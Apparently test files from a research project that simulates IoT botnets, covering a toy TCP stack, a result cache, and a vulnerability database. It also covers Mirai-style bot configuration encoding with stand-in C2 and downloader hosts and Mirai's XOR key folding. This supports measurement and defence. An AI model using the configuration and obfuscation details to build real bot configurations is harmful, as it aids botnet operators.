        assert synack.ack == (syn.seq + 1) & 0xFFFFFFFF
        assert ack.ack == (synack.seq + 1) & 0xFFFFFFFF

    def test_isns_are_random(self):
        _, _, t1 = fresh_pair(seed=1)
        _, _, t2 = fresh_pair(seed=2)
        assert t1[0].seq != t2[0].seq


class TestDataTransfer:
    def test_client_to_server(self):
        client, server, _ = fresh_pair()
        seg = client.send(b"hello")
        acks = server.receive(seg)
        assert server.read() == b"hello"
        assert len(acks) == 1
        client.receive(acks[0])

    def test_bidirectional(self):
        client, server, _ = fresh_pair()
        server.receive(client.send(b"ping"))
        for ack in client.receive(server.send(b"pong")):
            server.receive(ack)
        assert server.read() == b"ping"
        assert client.read() == b"pong"

    def test_sequence_advances_by_payload(self):
        client, server, _ = fresh_pair()
        first = client.send(b"abc")
        second = client.send(b"de")
        assert second.seq == (first.seq + 3) & 0xFFFFFFFF
        server.receive(first)
        server.receive(second)
        assert server.read() == b"abcde"

    def test_out_of_order_data_dropped_and_reacked(self):
        client, server, _ = fresh_pair()
        seg = client.send(b"abc")
        bogus = tcp_packet(
            CLIENT, SERVER, 40000, 80, TcpFlags.PSH | TcpFlags.ACK,
            b"xyz", seq=(seg.seq + 999) % 2**32,
        )
        replies = server.receive(bogus)
        assert server.read() == b""
        assert replies and replies[0].flags & TcpFlags.ACK

    def test_send_before_established_raises(self):
        rng = random.Random(0)
        conn = TcpConnection(CLIENT, SERVER, 40000, 80, rng)
        with pytest.raises(TcpError):
            conn.send(b"nope")


class TestTeardown:
    def test_fin_handshake(self):
        client, server, _ = fresh_pair()
        fin = client.close()
        assert fin.flags & TcpFlags.FIN
        server.receive(fin)
        assert server.state == TcpState.CLOSE_WAIT
        assert client.state == TcpState.FIN_WAIT

    def test_rst_resets_peer(self):
        client, server, _ = fresh_pair()
        rst = client.abort()
        assert rst.flags & TcpFlags.RST
        server.receive(rst)
        assert server.state == TcpState.RESET
        assert client.state == TcpState.RESET

    def test_close_on_closed_raises(self):
        rng = random.Random(0)
        conn = TcpConnection(CLIENT, SERVER, 40000, 80, rng)
        with pytest.raises(TcpError):
            conn.close()


class TestListener:
    def test_non_syn_to_listener_gets_rst(self):
        rng = random.Random(0)
        server = TcpConnection(SERVER, CLIENT, 80, 40000, rng)
        server.listen()
        stray = tcp_packet(CLIENT, SERVER, 40000, 80, TcpFlags.ACK, seq=5)
        replies = server.receive(stray)
        assert replies and replies[0].flags & TcpFlags.RST

    def test_double_open_raises(self):
        rng = random.Random(0)
        conn = TcpConnection(CLIENT, SERVER, 40000, 80, rng)
        conn.open()
        with pytest.raises(TcpError):
            conn.open()

    def test_handshake_ack_with_piggybacked_data(self):
        # Some bots send data on the final ACK; the server must accept it.
        rng = random.Random(0)
        client = TcpConnection(CLIENT, SERVER, 40000, 80, rng)
        server = TcpConnection(SERVER, CLIENT, 80, 40000, rng)
        server.listen()
        syn = client.open()
        (synack,) = server.receive(syn)
        (ack,) = client.receive(synack)
        server.receive(ack)
        seg = client.send(b"GET /")
        server.receive(seg)
        assert server.read() == b"GET /"
