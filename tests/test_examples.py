"""Every example script must run to completion as a subprocess."""

import pathlib
import subprocess
import sys

import pytest

EXAMPLES = sorted(
    pathlib.Path(__file__).resolve().parent.parent.joinpath("examples")
    .glob("*.py")
)


@pytest.mark.parametrize("script", EXAMPLES, ids=lambda p: p.name)
def test_example_runs(script, tmp_path):
    args = [sys.executable, str(script)]
    if script.name == "triage_single_binary.py":
        args.append(str(tmp_path / "trace.pcap"))
    result = subprocess.run(
        args, capture_output=True, text=True, timeout=600
    )
    assert result.returncode == 0, result.stderr[-2000:]
    assert result.stdout.strip(), "examples must produce output"
