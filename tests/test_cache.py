"""Persistent study cache: fingerprinting, correctness, and the golden
byte-identity values.

The golden digests below were captured from the pre-optimization code on
the same (seed, scale); they pin down that the batched scan path, the
lazy capture, and the TI memoization did not change a single byte of the
study's output.
"""

import os
import pickle

import pytest

from repro.core.cache import (
    CachedStudy,
    StudyCache,
    code_fingerprint,
    dataset_digest,
    study_fingerprint,
)
from repro.core.pipeline import PipelineConfig
from repro.core.study import run_study
from repro.netsim.faults import FAULT_PLANS
from repro.world import generate_world

from .conftest import SMOKE

SEED = 20220322

#: dataset_digest of the smoke study at SEED, captured before the PR 5
#: hot-path optimizations landed — the byte-identity oracle
GOLDEN_PLAIN = "8c5016ee222516adeade02048d2a7804b66842692b764217a0ad3655273d3e85"
#: same study under the mild fault plan (recovered faults are traceless
#: at smoke scale, so it coincides with the plain digest — see PR 3)
GOLDEN_MILD = GOLDEN_PLAIN
#: and under the heavy plan, where faults do leave a trace
GOLDEN_HEAVY = "1492e3a37e318a6398404f090ac1bfc9750f59110ae28f0a60797d5e8babaadc"


class TestGoldenByteIdentity:
    def test_smoke_study_matches_preoptimization_bytes(self, smoke_study):
        _world, _malnet, _campaign, datasets = smoke_study
        assert dataset_digest(datasets) == GOLDEN_PLAIN

    def test_mild_faults_match_preoptimization_bytes(self):
        world = generate_world(seed=SEED, scale=SMOKE)
        config = PipelineConfig(faults=FAULT_PLANS["mild"])
        _m, _c, datasets = run_study(world, config=config)
        assert dataset_digest(datasets) == GOLDEN_MILD

    def test_heavy_faults_match_preoptimization_bytes(self):
        world = generate_world(seed=SEED, scale=SMOKE)
        config = PipelineConfig(faults=FAULT_PLANS["heavy"])
        _m, _c, datasets = run_study(world, config=config)
        assert dataset_digest(datasets) == GOLDEN_HEAVY

    def test_digest_discriminates(self, smoke_study):
        # the oracle is only an oracle if different outputs digest
        # differently
        world = generate_world(seed=99, scale=SMOKE)
        _m, _c, datasets = run_study(world)
        assert dataset_digest(datasets) != GOLDEN_PLAIN


class TestFingerprint:
    def test_stable_across_calls(self):
        a = study_fingerprint(SEED, SMOKE)
        b = study_fingerprint(SEED, SMOKE)
        assert a == b

    def test_none_config_equals_default_config(self):
        assert study_fingerprint(SEED, SMOKE) == \
            study_fingerprint(SEED, SMOKE, PipelineConfig())

    def test_seed_scale_config_faults_all_change_it(self):
        base = study_fingerprint(SEED, SMOKE)
        import dataclasses

        other_scale = dataclasses.replace(SMOKE, probe_days=5)
        variants = [
            study_fingerprint(SEED + 1, SMOKE),
            study_fingerprint(SEED, other_scale),
            study_fingerprint(SEED, SMOKE,
                              PipelineConfig(liveness_retries=2)),
            study_fingerprint(SEED, SMOKE,
                              PipelineConfig(faults=FAULT_PLANS["mild"])),
            study_fingerprint(SEED, SMOKE,
                              PipelineConfig(faults=FAULT_PLANS["heavy"])),
        ]
        assert base not in variants
        assert len(set(variants)) == len(variants)

    def test_code_version_changes_it(self):
        real = study_fingerprint(SEED, SMOKE)
        fake = study_fingerprint(SEED, SMOKE, code="0" * 64)
        assert real != fake
        assert code_fingerprint() == code_fingerprint()  # memoized


class TestStudyCache:
    def test_miss_then_hit_roundtrip(self, tmp_path):
        cache = StudyCache(str(tmp_path))
        world = generate_world(seed=SEED, scale=SMOKE)
        _m, campaign, datasets = run_study(world, cache=cache)
        assert cache.misses == 1 and cache.hits == 0

        world = generate_world(seed=SEED, scale=SMOKE)
        _m2, campaign2, datasets2 = run_study(world, cache=cache)
        assert cache.hits == 1
        assert datasets2 == datasets
        assert dataset_digest(datasets2) == dataset_digest(datasets)
        assert campaign2.observations == campaign.observations
        assert campaign2.discovered == campaign.discovered
        assert campaign2.response_matrix() == campaign.response_matrix()
        assert campaign2.repeat_response_rate() == \
            campaign.repeat_response_rate()

    def test_hit_shares_observation_objects_with_d_pc2(self, tmp_path):
        # the serial run aliases campaign.observations into datasets.d_pc2;
        # the pickle graph must preserve that aliasing on a hit
        cache = StudyCache(str(tmp_path))
        world = generate_world(seed=SEED, scale=SMOKE)
        run_study(world, cache=cache)
        world = generate_world(seed=SEED, scale=SMOKE)
        _m, campaign, datasets = run_study(world, cache=cache)
        if campaign.observations:
            assert campaign.observations[0] is datasets.d_pc2[0]

    def test_different_seed_misses(self, tmp_path):
        cache = StudyCache(str(tmp_path))
        run_study(generate_world(seed=SEED, scale=SMOKE), cache=cache)
        run_study(generate_world(seed=SEED + 1, scale=SMOKE), cache=cache)
        assert cache.hits == 0 and cache.misses == 2

    def test_different_faults_miss(self, tmp_path):
        cache = StudyCache(str(tmp_path))
        run_study(generate_world(seed=SEED, scale=SMOKE), cache=cache)
        config = PipelineConfig(faults=FAULT_PLANS["mild"])
        run_study(generate_world(seed=SEED, scale=SMOKE), config=config,
                  cache=cache)
        assert cache.hits == 0 and cache.misses == 2

    def test_unseeded_world_bypasses_cache(self, tmp_path):
        cache = StudyCache(str(tmp_path))
        world = generate_world(seed=SEED, scale=SMOKE)
        world.seed = None
        run_study(world, cache=cache)
        assert cache.hits == cache.misses == 0
        assert not os.path.exists(str(tmp_path)) or \
            not os.listdir(str(tmp_path))

    def test_cache_accepts_directory_path(self, tmp_path):
        root = str(tmp_path / "by-path")
        run_study(generate_world(seed=SEED, scale=SMOKE), cache=root)
        _m, _c, cached = run_study(
            generate_world(seed=SEED, scale=SMOKE), cache=root)
        world = generate_world(seed=SEED, scale=SMOKE)
        _m2, _c2, fresh = run_study(world)
        assert cached == fresh


class TestCorruptEntries:
    """Any damaged entry must read as a miss — never crash, never serve
    bad data."""

    def _populate(self, tmp_path):
        cache = StudyCache(str(tmp_path))
        world = generate_world(seed=SEED, scale=SMOKE)
        _m, _c, datasets = run_study(world, cache=cache)
        fingerprint = study_fingerprint(SEED, SMOKE)
        return cache, fingerprint, datasets

    def _recompute_equals_fresh(self, cache, datasets):
        world = generate_world(seed=SEED, scale=SMOKE)
        _m, _c, recomputed = run_study(world, cache=cache)
        assert recomputed == datasets

    def test_truncated_entry_recomputes(self, tmp_path):
        cache, fingerprint, datasets = self._populate(tmp_path)
        path = cache.path_for(fingerprint)
        blob = open(path, "rb").read()
        with open(path, "wb") as fh:
            fh.write(blob[: len(blob) // 2])
        assert cache.get(fingerprint) is None
        assert cache.rejected == 1
        self._recompute_equals_fresh(cache, datasets)

    def test_flipped_payload_byte_recomputes(self, tmp_path):
        cache, fingerprint, datasets = self._populate(tmp_path)
        path = cache.path_for(fingerprint)
        blob = bytearray(open(path, "rb").read())
        blob[-1] ^= 0xFF
        with open(path, "wb") as fh:
            fh.write(bytes(blob))
        assert cache.get(fingerprint) is None
        self._recompute_equals_fresh(cache, datasets)

    def test_garbage_file_recomputes(self, tmp_path):
        cache, fingerprint, datasets = self._populate(tmp_path)
        with open(cache.path_for(fingerprint), "wb") as fh:
            fh.write(b"not a cache entry at all")
        assert cache.get(fingerprint) is None
        self._recompute_equals_fresh(cache, datasets)

    def test_empty_file_recomputes(self, tmp_path):
        cache, fingerprint, _datasets = self._populate(tmp_path)
        open(cache.path_for(fingerprint), "wb").close()
        assert cache.get(fingerprint) is None

    def test_wrong_format_version_recomputes(self, tmp_path):
        cache, fingerprint, _datasets = self._populate(tmp_path)
        path = cache.path_for(fingerprint)
        blob = bytearray(open(path, "rb").read())
        blob[4] = 0xFE  # the format-version byte
        with open(path, "wb") as fh:
            fh.write(bytes(blob))
        assert cache.get(fingerprint) is None

    def test_checksummed_pickle_of_wrong_type_rejected(self, tmp_path):
        # a well-formed entry whose payload is not a CachedStudy must
        # also be refused (defends against fingerprint collisions with
        # foreign writers)
        cache = StudyCache(str(tmp_path))
        import hashlib

        payload = pickle.dumps({"not": "a study"})
        blob = (b"RPSC" + bytes([1])
                + hashlib.sha256(payload).digest() + payload)
        os.makedirs(str(tmp_path), exist_ok=True)
        with open(cache.path_for("f" * 64), "wb") as fh:
            fh.write(blob)
        assert cache.get("f" * 64) is None

    def test_rewrite_after_corruption_serves_again(self, tmp_path):
        cache, fingerprint, datasets = self._populate(tmp_path)
        with open(cache.path_for(fingerprint), "wb") as fh:
            fh.write(b"garbage")
        # the recompute pass re-stores the entry...
        self._recompute_equals_fresh(cache, datasets)
        # ...so the next lookup hits
        entry = cache.get(fingerprint)
        assert entry is not None
        assert entry.datasets == datasets


class TestCachedStudyPickleStability:
    def test_entry_is_plain_picklable(self, smoke_study):
        _world, _malnet, campaign, datasets = smoke_study
        entry = CachedStudy(datasets=datasets,
                            observations=campaign.observations,
                            discovered=campaign.discovered)
        clone = pickle.loads(pickle.dumps(entry))
        assert clone.datasets == datasets
        assert clone.observations == campaign.observations
        assert clone.discovered == campaign.discovered
