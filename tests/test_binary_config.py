"""Tests for bot config TLV encoding and Mirai-style obfuscation."""

import pytest
from hypothesis import given, strategies as st

from repro.binary.config import (
    BotConfig,
    ConfigError,
    MIRAI_TABLE_KEY,
    pack_config,
    unpack_config,
    xor_deobfuscate,
    xor_obfuscate,
)

hosts = st.one_of(
    st.just("203.0.113.7"),
    st.text(alphabet="abcdefghijklmnopqrstuvwxyz.", min_size=3, max_size=20)
    .filter(lambda s: "." in s.strip(".") and not s.startswith(".") and ".." not in s),
)


def full_config():
    return BotConfig(
        family="mirai",
        c2_host="cnc.botnet.example",
        c2_port=23,
        scan_ports=[23, 2323, 80],
        exploit_ids=[1, 2, 6],
        loader_name="8UsA.sh",
        downloader="203.0.113.5:80",
        attacks=["udp", "syn", "vse"],
        variant="mirai.a",
        p2p_bootstrap=[],
    )


class TestTlvRoundtrip:
    def test_full_roundtrip(self):
        config = full_config()
        assert BotConfig.decode(config.encode()) == config

    def test_minimal_roundtrip(self):
        config = BotConfig(family="gafgyt")
        assert BotConfig.decode(config.encode()) == config

    def test_p2p_roundtrip(self):
        config = BotConfig(
            family="mozi", p2p_bootstrap=["203.0.113.1:6881", "203.0.113.2:6881"]
        )
        decoded = BotConfig.decode(config.encode())
        assert decoded.p2p_bootstrap == config.p2p_bootstrap
        assert decoded.is_p2p

    @given(
        family=st.sampled_from(["mirai", "gafgyt", "tsunami", "daddyl33t"]),
        host=hosts,
        port=st.integers(min_value=1, max_value=65535),
        scan_ports=st.lists(st.integers(min_value=1, max_value=65535), max_size=8),
        exploit_ids=st.lists(st.integers(min_value=0, max_value=100), max_size=8),
    )
    def test_roundtrip_property(self, family, host, port, scan_ports, exploit_ids):
        config = BotConfig(
            family=family, c2_host=host, c2_port=port,
            scan_ports=scan_ports, exploit_ids=exploit_ids,
        )
        assert BotConfig.decode(config.encode()) == config

    def test_bad_magic_rejected(self):
        with pytest.raises(ConfigError):
            BotConfig.decode(b"XXXX")

    def test_truncated_rejected(self):
        data = full_config().encode()
        with pytest.raises(ConfigError):
            BotConfig.decode(data[:-3])

    def test_missing_family_rejected(self):
        with pytest.raises(ConfigError):
            BotConfig.decode(b"BCFG")


class TestDnsDetection:
    def test_ip_host_is_not_dns(self):
        assert not BotConfig(family="mirai", c2_host="1.2.3.4").uses_dns

    def test_domain_host_is_dns(self):
        assert BotConfig(family="mirai", c2_host="cnc.example.com").uses_dns

    def test_empty_host_is_not_dns(self):
        assert not BotConfig(family="mirai").uses_dns


class TestObfuscation:
    def test_involution(self):
        data = b"the quick brown fox"
        assert xor_deobfuscate(xor_obfuscate(data)) == data

    def test_key_folding_matches_mirai(self):
        # 0xDEADBEEF folds to 0xDE^0xAD^0xBE^0xEF = 0x22
        folded = 0xDE ^ 0xAD ^ 0xBE ^ 0xEF
        assert xor_obfuscate(b"\x00", MIRAI_TABLE_KEY) == bytes([folded])

    @given(st.binary(max_size=256), st.integers(min_value=0, max_value=0xFFFFFFFF))
    def test_involution_property(self, data, key):
        assert xor_deobfuscate(xor_obfuscate(data, key), key) == data

    def test_obfuscated_differs_from_clear(self):
        data = full_config().encode()
        assert xor_obfuscate(data) != data


class TestPackUnpack:
    def test_clear_pack(self):
        config = full_config()
        payload = pack_config(config, obfuscate=False)
        assert payload[0] == 0
        assert unpack_config(payload) == config

    def test_obfuscated_pack(self):
        config = full_config()
        payload = pack_config(config, obfuscate=True)
        assert payload[0] == 1
        assert b"cnc.botnet.example" not in payload  # hidden on disk
        assert unpack_config(payload) == config

    def test_empty_payload_rejected(self):
        with pytest.raises(ConfigError):
            unpack_config(b"")

    def test_unknown_flag_rejected(self):
        with pytest.raises(ConfigError):
            unpack_config(b"\x07junk")
