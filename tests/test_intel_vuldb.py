"""Tests for the vulnerability database cross-coverage."""

from repro.botnet.exploits import VULNERABILITIES
from repro.intel.vuldb import Remediation, VulnDatabase


class TestCoverage:
    def test_all_vulns_present(self):
        db = VulnDatabase()
        assert set(db.entries) == {v.key for v in VULNERABILITIES}

    def test_nvd_lists_only_cves(self):
        db = VulnDatabase()
        for key, entry in db.entries.items():
            assert entry.in_nvd == (entry.vulnerability.cve is not None)

    def test_no_single_source_covers_all(self):
        """Q6: practitioners need all three databases."""
        assert VulnDatabase().uncovered_by_single_source()

    def test_coverage_report_counts(self):
        report = VulnDatabase().coverage_report()
        assert report["NVD"] == 8      # CVE-assigned rows
        assert report["OPENVAS"] == 1  # Vacron
        assert 8 <= report["EDB"] <= 10

    def test_union_covers_most_but_not_all(self):
        db = VulnDatabase()
        union = db.covered_by("NVD") | db.covered_by("EDB") | db.covered_by("OPENVAS")
        # CVE-less, exploit-less rows can exist in no public DB
        assert len(union) >= 11


class TestRemediation:
    def test_section4_patch_split(self):
        """3 patched, 5 firewall-only, 2 replace-device (section 4)."""
        summary = VulnDatabase().remediation_summary()
        assert summary[Remediation.PATCH_AVAILABLE] == 3
        assert summary[Remediation.FIREWALL_ONLY] == 5
        assert summary[Remediation.REPLACE_DEVICE] == 2

    def test_gpon_pair_patched(self):
        db = VulnDatabase()
        assert db.get("CVE-2018-10561").remediation == Remediation.PATCH_AVAILABLE
        assert db.get("CVE-2018-10562").remediation == Remediation.PATCH_AVAILABLE

    def test_eol_devices_replace_only(self):
        db = VulnDatabase()
        assert db.get("LINKSYS-E-RCE").remediation == Remediation.REPLACE_DEVICE
        assert db.get("EIR-D1000-RCI").remediation == Remediation.REPLACE_DEVICE

    def test_sources_property(self):
        db = VulnDatabase()
        gpon = db.get("CVE-2018-10561")
        assert gpon.sources == {"NVD", "EDB"}
        vacron = db.get("VACRON-NVR-RCE")
        assert vacron.sources == {"OPENVAS"}
